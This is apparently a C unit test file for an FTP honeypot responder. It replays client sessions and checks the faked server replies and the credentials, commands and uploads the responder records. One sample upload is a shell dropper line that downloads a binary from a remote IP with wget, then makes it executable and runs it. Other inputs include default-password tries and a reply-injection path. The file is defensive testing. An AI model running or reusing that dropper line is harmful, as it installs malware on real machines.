/*
 * FTP responder: the control dialogue recorded from Python's ftplib
 * (3.11) against the responder on a loopback listener, replayed here with
 * the data-channel events the worker would report between its steps. Every
 * scenario runs whole and one byte at a time.
 */
#include "test_resp_harness.h"
#include "test_resp_budget.h"

/* D_SEND: bytes on the data channel, which stays open */
enum { D_NONE, D_UPLOAD, D_CLOSE, D_FAIL, D_SEND };

struct step {
	const char *ctl; /* client control bytes */
	int data;        /* what happens on the data channel afterwards */
	const char *bytes;
	size_t len; /* of bytes; 0: strlen */
};

/* Run the steps; returns the final action. */
static int run_steps(struct tr_conn *c, const struct step *s, int n, int bytewise)
{
	tr_start(c);
	for (int i = 0; i < n; i++) {
		if (s[i].ctl && tr_feeds(c, s[i].ctl, bytewise) == RESP_CLOSE)
			break;
		size_t len = s[i].bytes ? (s[i].len ? s[i].len : strlen(s[i].bytes)) : 0;
		switch (s[i].data) {
		case D_UPLOAD:
		case D_SEND:
			if (bytewise)
				for (size_t k = 0; k < len; k++)
					c->r->data_input(c->st, (const uint8_t *)s[i].bytes + k,
					                 1, &c->out);
			else
				c->r->data_input(c->st, (const uint8_t *)s[i].bytes, len,
				                 &c->out);
			if (s[i].data == D_SEND)
				break;
			/* fall through */
		case D_CLOSE:
			c->act = c->r->data_closed(c->st, 0, &c->out);
			break;
		case D_FAIL:
			c->act = c->r->data_closed(c->st, -1, &c->out);
			break;
		}
	}
	tr_render(c);
	return c->act;
}

static void run_both_tls(struct tr_conn *c, const struct step *s, int n,
                         const struct resp_config *cfg, int tls)
{
	struct tr_conn b;
	tr_open_tls(&b, &resp_ftp, cfg, tls);
	run_steps(&b, s, n, 1);
	tr_open_tls(c, &resp_ftp, cfg, tls);
	run_steps(c, s, n, 0);
	assert_int_equal(c->act, b.act);
	assert_string_equal(tr_out(c), tr_out(&b));
	assert_int_equal(c->npl, b.npl);
	for (int i = 0; i < c->npl; i++)
		assert_memory_equal(c->pl[i].data, b.pl[i].data, c->pl[i].len);
	assert_int_equal(c->ev.len - c->fields_at, b.ev.len - b.fields_at);
	assert_memory_equal(c->ev.data + c->fields_at, b.ev.data + b.fields_at,
	                    c->ev.len - c->fields_at);
	tr_close(&b);
}

static void run_both(struct tr_conn *c, const struct step *s, int n,
                     const struct resp_config *cfg)
{
	run_both_tls(c, s, n, cfg, 0);
}

#define UPLOAD "#!/bin/sh\nwget http://198.51.100.7/x86 -O /tmp/x; chmod +x /tmp/x; /tmp/x\n"

/* ftplib: login, SYST, PWD, CWD, LIST, STOR, RETR (refused), PORT + NLST, QUIT */
static const struct step ftplib_session[] = {
    {"USER anonymous\r\nPASS guest@example.com\r\nSYST\r\nPWD\r\nCWD pub\r\nTYPE A\r\nPASV\r\n"
     "LIST\r\n",
     D_CLOSE, NULL},
    {"TYPE I\r\nPASV\r\nSTOR bot.sh\r\n", D_UPLOAD, UPLOAD},
    {"TYPE I\r\nPASV\r\nRETR secret.txt\r\n", D_CLOSE, NULL},
    {"TYPE A\r\nPORT 127,0,0,1,173,5\r\nNLST\r\nQUIT\r\n", D_NONE, NULL},
};

static void test_ftplib_session(void **state)
{
	struct tr_conn c;
	run_both(&c, ftplib_session, 4, NULL);
	assert_int_equal(c.act, RESP_CLOSE);
	assert_string_equal(tr_out(&c), "220 (vsFTPd 3.0.3)\r\n"
	                                "331 Please specify the password.\r\n"
	                                "230 Login successful.\r\n"
	                                "215 UNIX Type: L8\r\n"
	                                "257 \"/\" is the current directory\r\n"
	                                "250 Directory successfully changed.\r\n"
	                                "200 Switching to ASCII mode.\r\n"
	                                "227 Entering Passive Mode (192,0,2,10,156,65).\r\n"
	                                "150 Here comes the directory listing.\r\n"
	                                "226 Directory send OK.\r\n"
	                                "200 Switching to Binary mode.\r\n"
	                                "227 Entering Passive Mode (192,0,2,10,156,66).\r\n"
	                                "150 Ok to send data.\r\n"
	                                "226 Transfer complete.\r\n"
	                                "200 Switching to Binary mode.\r\n"
	                                "227 Entering Passive Mode (192,0,2,10,156,67).\r\n"
	                                "550 Failed to open file.\r\n"
	                                "200 Switching to ASCII mode.\r\n"
	                                "200 PORT command successful. Consider using PASV.\r\n"
	                                "425 Failed to establish connection.\r\n"
	                                "221 Goodbye.\r\n");
	/* the listing went to the data channel */
	assert_int_equal(c.send_calls, 1);
	assert_non_null(strstr((char *)c.sent, " backup.tar.gz\r\ndrwxr-xr-x "));
	assert_int_equal(c.listen_calls, 3);

	assert_int_equal(c.npl, 1);
	assert_string_equal(c.pl[0].kind, "ftp_upload");
	assert_string_equal(c.pl[0].name, "bot.sh");
	assert_string_equal((char *)c.pl[0].data, UPLOAD);

	assert_string_equal(tr_str(&c, "credentials.username"), "anonymous");
	assert_string_equal(tr_str(&c, "credentials.password"), "guest@example.com");
	assert_string_equal(tr_str(&c, "credentials.method"), "USER/PASS");
	assert_int_equal(tr_count(&c, "ftp.command"), 18);
	assert_string_equal(tr_elem(&c, "ftp.command", 0, NULL), "USER anonymous");
	assert_string_equal(tr_elem(&c, "ftp.command", 17, NULL), "QUIT");
	assert_string_equal(tr_elem(&c, "ftp.stor", 0, NULL), "bot.sh");
	assert_string_equal(tr_elem(&c, "ftp.retr", 0, NULL), "secret.txt");
	assert_int_equal(tr_int(&c, "ftp.dynamic_port"), 40003);
	assert_string_equal(tr_str(&c, "ftp.active_address"), "127.0.0.1:44293");
	tr_close(&c);
}

static void test_stand_in_file(void **state)
{
	static const uint8_t file[] = "not what you think\n";
	struct resp_config cfg = {0};
	cfg.ftp.file = file;
	cfg.ftp.file_len = sizeof(file) - 1;
	cfg.ftp.file_name = "wallet.dat";
	cfg.banner = "ProFTPD Server (Debian)";
	static const struct step s[] = {
	    {"USER a\r\nPASS b\r\nSIZE wallet.dat\r\nEPSV\r\nRETR /pub/wallet.dat\r\n", D_CLOSE,
	     NULL},
	    {"EPRT |2|2001:db8::1|5282|\r\nLIST\r\n", D_NONE, NULL},
	};
	struct tr_conn c;
	run_both(&c, s, 2, &cfg);
	assert_string_equal(tr_out(&c),
	                    "220 ProFTPD Server (Debian)\r\n"
	                    "331 Please specify the password.\r\n"
	                    "230 Login successful.\r\n"
	                    "213 19\r\n"
	                    "229 Entering Extended Passive Mode (|||40001|)\r\n"
	                    "150 Opening BINARY mode data connection for wallet.dat "
	                    "(19 bytes).\r\n"
	                    "226 Transfer complete.\r\n"
	                    "200 EPRT command successful. Consider using EPSV.\r\n"
	                    "425 Failed to establish connection.\r\n");
	assert_memory_equal(c.sent, file, sizeof(file) - 1);
	assert_string_equal(tr_str(&c, "ftp.active_address"), "[2001:db8::1]:5282");
	tr_close(&c);
}

static void test_data_before_command(void **state)
{
	/* the data channel delivers and closes before STOR is read */
	static const struct step s[] = {
	    {"USER a\r\nPASS b\r\nPASV\r\n", D_UPLOAD, "early bytes"},
	    {"STOR early.bin\r\n", D_NONE, NULL},
	    {"PASV\r\nSTOR never.bin\r\n", D_FAIL, NULL},
	};
	struct tr_conn c;
	run_both(&c, s, 3, NULL);
	assert_true(tr_out_has(&c, "STOR") == 0);
	assert_true(tr_out_has(&c, "150 Ok to send data.\r\n226 Transfer complete.\r\n227 "));
	assert_true(
	    tr_out_has(&c, "150 Ok to send data.\r\n425 Failed to establish connection.\r\n"));
	assert_int_equal(c.npl, 1);
	assert_string_equal(c.pl[0].name, "early.bin");
	assert_string_equal((char *)c.pl[0].data, "early bytes");
	tr_close(&c);
}

static const struct {
	const char *tx;
	const char *reply; /* after the banner */
} dialogue[] = {
    {"LIST\r\n", "530 Please login with USER and PASS.\r\n"},
    {"PASS x\r\n", "503 Login with USER first.\r\n"},
    {"FEAT\r\n",
     "211-Features:\r\n EPRT\r\n EPSV\r\n MDTM\r\n PASV\r\n REST STREAM\r\n SIZE\r\n"
     " TVFS\r\n UTF8\r\n211 End\r\n"},
    {"AUTH TLS\r\n", "530 Please login with USER and PASS.\r\n"},
    {"OPTS UTF8 ON\r\nNOOP\r\n", "200 Always in UTF8 mode.\r\n200 NOOP ok.\r\n"},
    {"USER a\r\nPASS b\r\nLIST\r\n",
     "331 Please specify the password.\r\n230 Login successful.\r\n"
     "425 Use PORT or PASV first.\r\n"},
    {"USER a\r\nPASS b\r\nPORT 1,2,3\r\n", "331 Please specify the password.\r\n230 Login "
                                           "successful.\r\n500 Illegal PORT command.\r\n"},
    {"USER a\r\nPASS b\r\nMKD x\r\nCWD x\r\nPWD\r\nCDUP\r\nPWD\r\n",
     "331 Please specify the password.\r\n230 Login successful.\r\n257 \"/x\" created\r\n"
     "250 Directory successfully changed.\r\n257 \"/x\" is the current directory\r\n"
     "250 Directory successfully changed.\r\n257 \"/\" is the current directory\r\n"},
    {"USER a\r\nPASS b\r\nRNTO y\r\nRNFR x\r\nRNTO y\r\nSITE CHMOD 777 x\r\nXYZ\r\n",
     "331 Please specify the password.\r\n230 Login successful.\r\n503 RNFR required first.\r\n"
     "350 Ready for RNTO.\r\n250 Rename successful.\r\n200 SITE CHMOD command ok.\r\n"
     "500 Unknown command.\r\n"},
};

static void test_dialogue(void **state)
{
	for (size_t i = 0; i < sizeof(dialogue) / sizeof(dialogue[0]); i++) {
		struct tr_conn c;
		tr_run_both(&c, &resp_ftp, NULL, dialogue[i].tx, strlen(dialogue[i].tx));
		const char *o = tr_out(&c) + strlen("220 (vsFTPd 3.0.3)\r\n");
		if (strcmp(o, dialogue[i].reply) != 0)
			fail_msg("case %zu: got\n%s", i, o);
		tr_close(&c);
	}
}

static void test_login_reject(void **state)
{
	struct resp_config cfg = {0};
	cfg.login_reject = 1;
	static const char tx[] = "USER root\r\nPASS root\r\nUSER admin\r\nPASS admin\r\n"
	                         "USER ftp\r\nPASS ftp\r\nUSER never\r\n";
	struct tr_conn c;
	tr_run_both(&c, &resp_ftp, &cfg, tx, strlen(tx));
	assert_int_equal(c.act, RESP_CLOSE);
	assert_int_equal(tr_int(&c, "credentials_count"), 3);
	assert_string_equal(tr_elem(&c, "credentials_tried", 2, "password"), "ftp");
	assert_false(tr_out_has(&c, "230"));
	tr_close(&c);
}

static void test_auth_tls(void **state)
{
	struct resp_config cfg = {0};
	cfg.starttls = 1;
	struct tr_conn c;
	tr_open(&c, &resp_ftp, &cfg);
	tr_start(&c);
	tr_feeds(&c, "FEAT\r\n", 0);
	assert_true(tr_out_has(&c, "211-Features:\r\n AUTH TLS\r\n EPRT"));
	resp_out_consume(&c.out, c.out.len);
	assert_int_equal(tr_feeds(&c, "AUTH TLS\r\nUSER injected\r\n", 0), RESP_STARTTLS);
	assert_string_equal(tr_out(&c), "234 Proceed with negotiation.\r\n");
	resp_out_consume(&c.out, c.out.len);
	tr_feeds(&c, "PBSZ 0\r\nPROT P\r\nUSER a\r\n", 0);
	assert_string_equal(tr_out(&c), "200 PBSZ set to 0.\r\n536 PROT not supported.\r\n"
	                                "331 Please specify the password.\r\n");
	tr_render(&c);
	assert_string_equal(tr_str(&c, "credentials.username"), "a");
	tr_close(&c);
}

static void test_limits_and_timeout(void **state)
{
	struct tr_conn c;
	char *big = malloc(70000);
	big[0] = 0;
	strcat(big, "USER a\r\nPASS b\r\n");
	for (int i = 0; i < 80; i++)
		strcat(big, "NOOP\r\n");
	size_t n = strlen(big);
	memset(big + n, 'x', 10000);
	strcpy(big + n + 10000, "\r\n");
	tr_run_both(&c, &resp_ftp, NULL, big, strlen(big));
	assert_int_equal(tr_count(&c, "ftp.command"), 64);
	assert_int_equal(tr_int(&c, "ftp.command_count"), 83);
	assert_true(tr_out_has(&c, "500 Input line too long.\r\n"));
	assert_int_equal(c.r->timeout(c.st, &c.out), RESP_CLOSE);
	assert_true(tr_out_has(&c, "421 Timeout.\r\n"));
	tr_close(&c);

	/* fifty errors end the session */
	big[0] = 0;
	for (int i = 0; i < 60; i++)
		strcat(big, "BOGUS\r\n");
	tr_run_both(&c, &resp_ftp, NULL, big, strlen(big));
	assert_int_equal(c.act, RESP_CLOSE);
	assert_true(tr_out_has(&c, "421 Too many errors.\r\n"));
	tr_close(&c);
	free(big);
}

/* The reviewer's transcript: STOR, bytes, then PASV while the upload's data
 * connection is still open, more bytes on it, then it closes. */
#define PART1                                                                                  \
	"\x7f"                                                                                 \
	"ELF MALWARE-UPLOAD part one; "
#define PART2 "part two, after the PASV"

static void test_pasv_while_uploading(void **state)
{
	static const struct step s[] = {
	    {"USER a\r\nPASS b\r\nPASV\r\nSTOR dropper.elf\r\n", D_SEND, PART1},
	    {"PASV\r\n", D_SEND, PART2},
	    {NULL, D_CLOSE, NULL},
	    {"QUIT\r\n", D_NONE, NULL},
	};
	struct tr_conn c;
	run_both(&c, s, 4, NULL);
	assert_int_equal(c.npl, 1);
	assert_string_equal(c.pl[0].kind, "ftp_upload");
	assert_string_equal(c.pl[0].name, "dropper.elf");
	assert_int_equal(c.pl[0].len, strlen(PART1 PART2));
	assert_memory_equal(c.pl[0].data, PART1 PART2, strlen(PART1 PART2));
	assert_int_equal(c.pl[0].truncated, 0);
	/* one reply per command: the late end of the upload is not answered */
	assert_string_equal(tr_out(&c) + strlen("220 (vsFTPd 3.0.3)\r\n"),
	                    "331 Please specify the password.\r\n230 Login successful.\r\n"
	                    "227 Entering Passive Mode (192,0,2,10,156,65).\r\n"
	                    "150 Ok to send data.\r\n"
	                    "227 Entering Passive Mode (192,0,2,10,156,66).\r\n"
	                    "221 Goodbye.\r\n");
	tr_close(&c);

	/* two PASVs while it is open: still one file, whole */
	static const struct step d[] = {
	    {"USER a\r\nPASS b\r\nPASV\r\nSTOR up.bin\r\n", D_SEND, PART1},
	    {"PASV\r\n", D_SEND, PART2},
	    {"PASV\r\n", D_SEND, PART1},
	    {NULL, D_CLOSE, NULL},
	    {"QUIT\r\n", D_NONE, NULL},
	};
	run_both(&c, d, 5, NULL);
	assert_int_equal(c.npl, 1);
	assert_string_equal(c.pl[0].name, "up.bin");
	assert_int_equal(c.pl[0].len, strlen(PART1 PART2 PART1));
	assert_memory_equal(c.pl[0].data, PART1 PART2 PART1, strlen(PART1 PART2 PART1));
	tr_close(&c);

	/* the same with PORT and EPRT, the session ending with the upload open */
	static const struct step p[] = {
	    {"USER a\r\nPASS b\r\nEPSV\r\nSTOR up.bin\r\n", D_SEND, PART1},
	    {"PORT 127,0,0,1,4,1\r\n", D_SEND, PART2},
	    {"EPRT |1|127.0.0.1|1025|\r\n", D_NONE, NULL},
	};
	run_both(&c, p, 3, NULL);
	assert_int_equal(c.npl, 1);
	assert_string_equal(c.pl[0].name, "up.bin");
	assert_memory_equal(c.pl[0].data, PART1 PART2, strlen(PART1 PART2));
	tr_close(&c);

	/* a new transfer ends the upload left open; the next one is its own file */
	static const struct step n[] = {
	    {"USER a\r\nPASS b\r\nPASV\r\nSTOR first.bin\r\n", D_SEND, PART1},
	    {"PASV\r\nSTOR second.bin\r\n", D_UPLOAD, PART2},
	};
	run_both(&c, n, 2, NULL);
	assert_int_equal(c.npl, 2);
	assert_string_equal(c.pl[0].name, "first.bin");
	assert_int_equal(c.pl[0].len, strlen(PART1));
	assert_memory_equal(c.pl[0].data, PART1, strlen(PART1));
	assert_string_equal(c.pl[1].name, "second.bin");
	assert_string_equal((char *)c.pl[1].data, PART2);
	assert_true(tr_out_has(&c, "150 Ok to send data.\r\n226 Transfer complete.\r\n"));
	tr_close(&c);

	/* bytes on a passive connection before any STOR: kept when PORT comes */
	static const struct step e[] = {
	    {"USER a\r\nPASS b\r\nPASV\r\n", D_SEND, PART1},
	    {"PORT 127,0,0,1,4,1\r\nQUIT\r\n", D_NONE, NULL},
	};
	run_both(&c, e, 2, NULL);
	assert_int_equal(c.npl, 1);
	assert_memory_equal(c.pl[0].data, PART1, strlen(PART1));
	tr_close(&c);

	/* an upload larger than payload_max left open: kept, truncated, not lost */
	struct resp_config small = {0};
	small.max_payload = 8;
	run_both(&c, s, 4, &small);
	assert_int_equal(c.npl, 1);
	assert_int_equal(c.pl[0].len, 8);
	assert_memory_equal(c.pl[0].data, PART1, 8);
	assert_int_equal(c.pl[0].truncated, 1);
	tr_close(&c);
}

/* What curl sends first on a data connection after PROT P: a ClientHello. */
static const char client_hello[] = "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
                                   "0123456789abcdef0123456789abcdef";

static void test_prot_p_refused(void **state)
{
	/* implicit FTPS (990): the data connections are never protected */
	static const char tx[] = "FEAT\r\nPBSZ 0\r\nPROT P\r\nUSER a\r\nPASS b\r\n"
	                         "PROT P\r\nPROT S\r\nPROT X\r\nPROT C\r\n";
	struct tr_conn c;
	tr_open_tls(&c, &resp_ftp, NULL, 1);
	tr_start(&c);
	tr_feeds(&c, tx, 1);
	assert_string_equal(tr_out(&c) + strlen("220 (vsFTPd 3.0.3)\r\n"),
	                    "211-Features:\r\n EPRT\r\n EPSV\r\n MDTM\r\n PASV\r\n"
	                    " REST STREAM\r\n SIZE\r\n TVFS\r\n UTF8\r\n211 End\r\n"
	                    "200 PBSZ set to 0.\r\n"
	                    "536 PROT not supported.\r\n"
	                    "331 Please specify the password.\r\n230 Login successful.\r\n"
	                    "536 PROT not supported.\r\n"
	                    "536 PROT not supported.\r\n"
	                    "504 PROT not recognized.\r\n"
	                    "200 PROT now Clear.\r\n");
	tr_close(&c);

	/* explicit (AUTH TLS): the same once the control connection is in TLS */
	struct resp_config cfg = {0};
	cfg.starttls = 1;
	tr_open(&c, &resp_ftp, &cfg);
	tr_start(&c);
	assert_int_equal(tr_feeds(&c, "AUTH TLS\r\n", 0), RESP_STARTTLS);
	resp_out_consume(&c.out, c.out.len);
	tr_feeds(&c, "FEAT\r\nUSER a\r\nPASS b\r\nPROT P\r\n", 0);
	assert_false(tr_out_has(&c, "PROT\r\n"));
	assert_false(tr_out_has(&c, "PBSZ\r\n"));
	assert_true(tr_out_has(&c, "230 Login successful.\r\n536 PROT not supported.\r\n"));
	tr_close(&c);
}

static void test_tls_hello_on_data_is_no_file(void **state)
{
	/* a client that protects its data connection anyway: the ClientHello is
	 * not the file; the next transfer in clear is */
	static const struct step s[] = {
	    {"USER a\r\nPASS b\r\nPBSZ 0\r\nPROT P\r\nEPSV\r\nSTOR up.bin\r\n", D_UPLOAD,
	     client_hello, sizeof(client_hello) - 1},
	    {"EPSV\r\nSTOR up.bin\r\n", D_UPLOAD, UPLOAD},
	    {"EPSV\r\n", D_UPLOAD, client_hello, sizeof(client_hello) - 1},
	    {"STOR parked.bin\r\nQUIT\r\n", D_NONE, NULL},
	};
	struct tr_conn c;
	run_both_tls(&c, s, 4, NULL, 1);
	/* the file, and each ClientHello kept as what it is */
	assert_int_equal(c.npl, 3);
	int files = 0, hellos = 0;
	for (int i = 0; i < c.npl; i++) {
		if (strcmp(c.pl[i].kind, "ftp_data_tls") == 0) {
			hellos++;
			assert_int_equal(c.pl[i].len, sizeof(client_hello) - 1);
			assert_memory_equal(c.pl[i].data, client_hello,
			                    sizeof(client_hello) - 1);
		} else {
			files++;
			assert_string_equal(c.pl[i].kind, "ftp_upload");
			assert_string_equal(c.pl[i].name, "up.bin");
			assert_string_equal((char *)c.pl[i].data, UPLOAD);
		}
	}
	assert_int_equal(files, 1);
	assert_int_equal(hellos, 2);
	assert_true(tr_out_has(&c, "150 Ok to send data.\r\n"
	                           "426 Failure reading network stream.\r\n"
	                           "229 Entering Extended Passive Mode (|||40002|)\r\n"
	                           "150 Ok to send data.\r\n226 Transfer complete.\r\n"));
	assert_int_equal(tr_int(&c, "ftp.data_tls"), 2);
	tr_close(&c);

	/* bytes that only start like one are a file: a record or handshake length no
	 * hello has, or no client version after them */
	static const char almost2[] = "\x16\x03\x00\x00\x01\x01payload of a file";
	static const struct step a2[] = {
	    {"USER a\r\nPASS b\r\nPASV\r\nSTOR y.bin\r\n", D_UPLOAD, almost2,
	     sizeof(almost2) - 1},
	};
	run_both(&c, a2, 1, NULL);
	assert_int_equal(c.npl, 1);
	assert_string_equal(c.pl[0].kind, "ftp_upload");
	assert_int_equal(c.pl[0].len, sizeof(almost2) - 1);
	assert_int_equal(tr_int(&c, "ftp.data_tls"), -1);
	tr_close(&c);
	static const char almost[] = "\x16\x03\x01\x00\x00\x01 not a handshake";
	static const struct step a[] = {
	    {"USER a\r\nPASS b\r\nPASV\r\nSTOR x.bin\r\n", D_UPLOAD, almost,
	     sizeof(almost) - 1},
	};
	run_both(&c, a, 1, NULL);
	assert_int_equal(c.npl, 1);
	assert_int_equal(c.pl[0].len, sizeof(almost) - 1);
	assert_int_equal(tr_int(&c, "ftp.data_tls"), -1);
	tr_close(&c);
}

static void test_garbage(void **state)
{
	uint8_t junk[3000];
	uint32_t x = 4242;
	for (int round = 0; round < 50; round++) {
		for (size_t i = 0; i < sizeof(junk); i++) {
			x = x * 1103515245 + 12345;
			uint8_t b = (uint8_t)(x >> 16);
			junk[i] = (b & 0x1f) == 0 ? '\n' : b;
		}
		struct tr_conn c;
		tr_run_both(&c, &resp_ftp, NULL, junk, sizeof(junk));
		tr_close(&c);
	}
}

/*
 * What FTP records has the connection's budget: a flood of long commands keeps
 * its first ones and counts the rest; the files asked for after it and the
 * credentials are still kept, and all of it is in the memory count.
 */
static void test_record_budget(void **state)
{
	(void)state;
	char *tx = malloc(100000);
	size_t n = (size_t)sprintf(tx, "USER mallory\r\nPASS %s\r\n", tr_pad('p', 40));
	for (int i = 0; i < 60; i++)
		n += (size_t)sprintf(tx + n, "NOOP %s\r\n", tr_pad('x', 500));
	for (int i = 0; i < 16; i++)
		n += (size_t)sprintf(tx + n, "RETR %c%s\r\n", 'a' + i, tr_pad('r', 400));
	struct tr_conn c;
	tr_run_both(&c, &resp_ftp, NULL, tx, n);
	tr_assert_budget(&c, "ftp.command", "ftp.command_count", "ftp.commands_not_kept", 78);
	assert_int_equal(tr_count(&c, "ftp.retr"), 16);
	assert_string_equal(tr_str(&c, "credentials.username"), "mallory");
	assert_string_equal(tr_str(&c, "credentials.password"), tr_pad('p', 40));
	tr_close(&c);
	assert_int_equal(resp_mem_held(), 0);

	tr_assert_held(&resp_ftp, NULL, tx, n,
	               (const char *const[]){"ftp.command", "ftp.retr", NULL}, 0,
	               RESP_RECORD_MAX + 4096);
	free(tx);
}

/*
 * A path a 257 reply shows is quoted as RFC 959 has it, a quote in it
 * doubled, and stays one line: a CR or another control byte in a MKD or CWD
 * argument becomes '?' (after a NUL, the path ends, as a C path does). The
 * commands are recorded as sent.
 */
static void test_path_reply_one_line(void **state)
{
	static const char tx[] = "USER a\r\nPASS b\r\n"
	                         "MKD x\"y\r226 fake\r\n"
	                         "CWD /d\"q\r\x01r\0s\r\n"
	                         "PWD\r\n"
	                         "MKD \"\"\r\n"
	                         "NOOP\r\n";
	struct tr_conn c;
	tr_run_both(&c, &resp_ftp, NULL, tx, sizeof(tx) - 1);
	tr_assert_lines(&c);
	const char *o = tr_out(&c) + strlen("220 (vsFTPd 3.0.3)\r\n");
	assert_string_equal(o, "331 Please specify the password.\r\n230 Login successful.\r\n"
	                       "257 \"/x\"\"y?226 fake\" created\r\n"
	                       "250 Directory successfully changed.\r\n"
	                       "257 \"/d\"\"q??r\" is the current directory\r\n"
	                       "257 \"/d\"\"q??r/\"\"\"\"\" created\r\n"
	                       "200 NOOP ok.\r\n");
	assert_string_equal(tr_elem(&c, "ftp.command", 2, NULL), "MKD x\"y\r226 fake");
	assert_memory_equal(tr_elem(&c, "ftp.command", 3, NULL), "CWD /d\"q\r\x01r\0s", 14);
	tr_close(&c);
}

/* The longest path there is (511 bytes, each a quote) is shown whole. */
static void test_path_reply_bounds(void **state)
{
	char tx[1200];
	int n = snprintf(tx, sizeof(tx), "USER a\r\nPASS b\r\nMKD /%s\r\n", tr_pad('"', 600));
	struct tr_conn c;
	tr_run_both(&c, &resp_ftp, NULL, tx, (size_t)n);
	tr_assert_lines(&c);
	char want[1100];
	snprintf(want, sizeof(want), "257 \"/%s%s\" created\r\n", tr_pad('"', 510),
	         tr_pad('"', 510));
	assert_true(tr_out_has(&c, want));
	tr_close(&c);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_ftplib_session),
	    cmocka_unit_test(test_stand_in_file),
	    cmocka_unit_test(test_data_before_command),
	    cmocka_unit_test(test_dialogue),
	    cmocka_unit_test(test_login_reject),
	    cmocka_unit_test(test_auth_tls),
	    cmocka_unit_test(test_limits_and_timeout),
	    cmocka_unit_test(test_garbage),
	    cmocka_unit_test(test_pasv_while_uploading),
	    cmocka_unit_test(test_prot_p_refused),
	    cmocka_unit_test(test_tls_hello_on_data_is_no_file),
	    cmocka_unit_test(test_record_budget),
	    cmocka_unit_test(test_path_reply_one_line),
	    cmocka_unit_test(test_path_reply_bounds),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
